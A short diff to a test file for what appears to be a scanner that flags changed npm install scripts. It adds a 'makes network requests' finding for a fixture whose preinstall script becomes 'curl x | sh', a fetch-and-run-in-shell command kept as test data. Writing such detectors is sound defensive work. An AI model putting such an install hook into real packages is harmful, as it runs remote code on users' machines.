@@ -24,7 +24,7 @@ describe('install-script', () => {
         name: 'preinstall changed: the old one is removed, the new one introduced',
         before: { ...base, scripts: { preinstall: 'node a.js' } },
         after: { ...base, scripts: { preinstall: 'curl x | sh' } },
-        findings: [{ message: 'install script "preinstall" changed', evidence: '"preinstall": "node a.js" → "curl x | sh"' }],
+        findings: [{ message: 'install script "preinstall" changed; it makes network requests', evidence: '"preinstall": "node a.js" → "curl x | sh"' }],
         removed: 1,
       },
     ],
